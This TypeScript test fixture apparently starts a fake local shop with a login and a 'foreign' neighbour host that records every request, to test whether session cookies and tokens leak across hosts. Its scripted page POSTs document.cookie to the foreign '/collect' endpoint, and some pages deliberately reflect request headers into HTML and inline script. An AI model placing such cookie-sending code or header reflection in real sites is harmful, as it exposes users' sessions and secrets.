/** A shop behind a login form, with a neighbour that must never learn anything of it. Both write down all that they are sent. */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

export type GuardedShop = AsyncDisposable & {
  /** On 127.0.0.1: the shop itself. */
  page(path: string): string
  /** On localhost: another host. */
  foreign(path: string): string
  password: string
  logins: number
  failedLogins: number
  /** Each request: its host, line, headers and body. */
  requests: Array<{ host: string; path: string; text: string }>
  /** All sessions end, as a server does after a while. */
  endSessions(): void
  price: number
}

export async function startGuardedShop(): Promise<GuardedShop> {
  const sessions = new Set<string>()
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => {
      body += chunk
    })
    request.on('end', () => {
      const host = (request.headers.host ?? '').split(':')[0] ?? ''
      const path = request.url ?? ''
      shop.requests.push({ host, path, text: `${path}\n${JSON.stringify(request.rawHeaders)}\n${body}` })
      if (host === 'localhost') answerForeign(response)
      else answer(shop, sessions, request, response, body)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const shop: GuardedShop = {
    page: (path) => `http://127.0.0.1:${port}${path}`,
    foreign: (path) => `http://localhost:${port}${path}`,
    password: 'hunter2-pass',
    logins: 0,
    failedLogins: 0,
    requests: [],
    endSessions: () => sessions.clear(),
    price: 10,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
  return shop
}

function answerForeign(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
  response.end('<html><body><h1>Elsewhere</h1><ul><li>One</li><li>Two</li></ul></body></html>')
}

function answer(
  shop: GuardedShop,
  sessions: Set<string>,
  request: IncomingMessage,
  response: ServerResponse,
  body: string,
): void {
  const [path = ''] = (request.url ?? '').split('?')
  const send = (status: number, html: string, headers: Record<string, string> = {}) =>
    response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(html)
  if (path === '/robots.txt') return void send(404, '')
  if (path === '/open') return void send(200, listPage(shop, request))
  const token = String(request.headers['x-token'])
  if (path === '/keys') return void send(200, keysPage(token.replaceAll('+', '&#43;')))
  if (path === '/keys.json')
    return void send(
      200,
      JSON.stringify({
        keys: [
          { name: 'Main', key: token },
          { name: 'Other', key: 'none' },
        ],
      }).replaceAll('/', '\\/'),
      {
        'content-type': 'application/json',
      },
    )
  if (path === '/basic') {
    if (!request.headers.authorization) return void send(401, 'no', { 'www-authenticate': 'Basic realm="shop"' })
    return void send(200, listPage(shop, request))
  }
  if (path === '/leave') return void send(302, '', { location: shop.foreign('/landed') })
  if (path === '/login' && request.method === 'POST') {
    const given = new URLSearchParams(body)
    if (given.get('password') !== shop.password) {
      shop.failedLogins += 1
      return void send(200, LOGIN_PAGE.replace('<form', '<p>Wrong password</p><form'))
    }
    shop.logins += 1
    const id = `session-secret-${shop.logins}-${Math.random().toString(36).slice(2)}`
    sessions.add(id)
    return void send(302, '', { location: '/account', 'set-cookie': `sid=${id}; Path=/; HttpOnly` })
  }
  if (path === '/login') return void send(200, LOGIN_PAGE)
  const own = /sid=([\w-]+)/.exec(request.headers.cookie ?? '')?.[1] ?? ''
  if (!sessions.has(own)) return void send(302, '', { location: `/login?next=${encodeURIComponent(path)}` })
  if (path === '/account')
    return void send(200, '<html><body><h1>Your account</h1><a href="/out">Sign out</a></body></html>')
  if (path.startsWith('/product/')) return void send(200, productPage(shop, path, request))
  if (path === '/scripted') return void send(200, scriptedPage(shop, request))
  if (path === '/items.json')
    return void response
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ items: PRODUCTS.map(({ name, price }) => ({ name, price: price + shop.price })) }))
  return void send(200, listPage(shop, request))
}

const LOGIN_PAGE = `<html><head><title>Sign in</title></head><body><h1>Sign in</h1><form method="post" action="/login">
<label>Name <input name="user"></label><label>Password <input type="password" name="password"></label>
<button>Sign in</button></form></body></html>`

const PRODUCTS = Array.from({ length: 8 }, (_, index) => ({ name: `Mug ${index + 1}`, price: index }))

function keysPage(key: string): string {
  return `<html><body><h1>Keys</h1><table><tr><th>Name</th><th>Key</th></tr>
<tr><td>Main</td><td>${key}</td></tr><tr><td>Other</td><td>none</td></tr></table></body></html>`
}

/** A page that shows its readers what they sent, as careless pages do. */
function echo(request: IncomingMessage): string {
  const shown = JSON.stringify(request.rawHeaders).replaceAll('<', '&lt;')
  return `<footer><p>You sent: ${shown}</p><script>window.seen = ${shown}</script></footer>`
}

function listPage(shop: GuardedShop, request: IncomingMessage): string {
  const cards = PRODUCTS.map(
    ({ name, price }) =>
      `<li class="card"><h2 class="name">${name}</h2><span class="price">€${(price + shop.price).toFixed(2)}</span></li>`,
  )
  return `<html><head><title>Mugs</title></head><body><h1>Mugs</h1><ul class="products">${cards.join('')}</ul>${echo(request)}</body></html>`
}

function productPage(shop: GuardedShop, path: string, request: IncomingMessage): string {
  const number = Number(path.split('/')[2])
  return `<html><head><title>Mug ${number}</title></head><body><main><h1 class="name">Mug ${number}</h1>
    <p class="price">€${(number + shop.price).toFixed(2)}</p><p class="about">A mug of stoneware, number ${number} of its kind, made by hand.</p></main>${echo(request)}</body></html>`
}

function scriptedPage(shop: GuardedShop, request: IncomingMessage): string {
  return `<html><head><title>Mugs</title></head><body><div id="root"></div>
    <script src="${shop.foreign('/tracker.js')}"></script><img src="${shop.foreign('/pixel.gif')}">
    <script>
      fetch('${shop.foreign('/collect')}', { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {})
      fetch('/items.json').then((answer) => answer.json()).then(({ items }) => {
        document.querySelector('#root').innerHTML = '<h1>Mugs</h1><ul class="products">' + items.map(({ name, price }) =>
          '<li class="card"><h2 class="name">' + name + '</h2><span class="price">€' + price.toFixed(2) + '</span></li>').join('') + '</ul>'
      })
    </script><noscript>This page needs JavaScript</noscript>${echo(request)}</body></html>`
}
